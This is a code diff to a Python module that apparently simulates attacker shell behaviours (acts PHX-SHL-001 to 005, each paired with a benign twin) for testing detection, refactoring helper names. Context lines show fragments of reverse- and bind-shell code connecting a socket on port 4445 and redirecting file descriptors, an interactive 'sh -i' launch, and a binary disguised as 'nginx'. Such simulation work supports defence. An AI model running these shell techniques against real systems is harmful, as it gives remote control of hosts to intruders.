@@ -7,7 +7,7 @@ import pty
 import sys
 from typing import Final
 
-from phalanx.respond.simulate.acts.base import Act, copy_of
+from phalanx.respond.simulate.acts.base import SPAWN, Act, copy_of, ignored
 from phalanx.respond.simulate.stage import REMOTE, Stage, plain_environment, python_program
 
 __all__ = ["ACTS"]
@@ -30,7 +30,6 @@ client = socket.create_connection((sys.argv[1], 4445))
 accepted, _ = server.accept()
 os.dup2(accepted.fileno(), 0)
 """
-_START: Final = "import subprocess, sys\nsubprocess.run(sys.argv[1:], check=True)\n"
 
 
 def _bind(stage: Stage, program: str | None = None) -> None:
@@ -40,7 +39,7 @@ def _bind(stage: Stage, program: str | None = None) -> None:
 def _server(stage: Stage, itself: bool) -> None:
     server = copy_of(stage, python_program(), "nginx")
     command = (server, "-S", "-c", "pass") if itself else (copy_of(stage, "true", "simulation"),)
-    stage.python(_START, *command, executable=server)
+    stage.python(SPAWN, *command, executable=server)
 
 
 def _on_terminal(stage: Stage) -> None:
@@ -64,8 +63,8 @@ def _on_terminal(stage: Stage) -> None:
 ACTS: Final = (
     Act(
         id="PHX-SHL-001",
-        attack=lambda stage: _done(stage.python(_REVERSE, REMOTE, "0", "1")),
-        twin=lambda stage: _done(stage.python(_REVERSE, REMOTE, "1")),
+        attack=lambda stage: ignored(stage.python(_REVERSE, REMOTE, "0", "1")),
+        twin=lambda stage: ignored(stage.python(_REVERSE, REMOTE, "1")),
     ),
     Act(id="PHX-SHL-002", attack=_bind, twin=lambda stage: _bind(stage, "/usr/sbin/xinetd")),
     Act(
@@ -75,11 +74,7 @@ ACTS: Final = (
     ),
     Act(
         id="PHX-SHL-005",
-        attack=lambda stage: _done(stage.run("sh", "-i", text="exit\n")),
+        attack=lambda stage: ignored(stage.run("sh", "-i", text="exit\n")),
         twin=_on_terminal,
     ),
 )
-
-
-def _done(code: int) -> None:
-    """An exit code that says nothing."""
